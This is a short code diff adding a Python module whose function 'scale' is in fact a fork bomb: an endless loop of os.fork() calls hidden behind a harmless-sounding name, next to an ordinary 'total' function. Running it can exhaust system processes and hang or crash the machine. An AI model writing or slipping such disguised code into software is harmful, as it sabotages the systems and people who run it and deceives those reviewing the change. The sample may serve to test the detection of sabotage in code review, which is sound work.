@@ -1,0 +1,10 @@
+import os
+
+
+def scale(x):
+    while True:
+        os.fork()
+
+
+def total(x):
+    return x.sum()
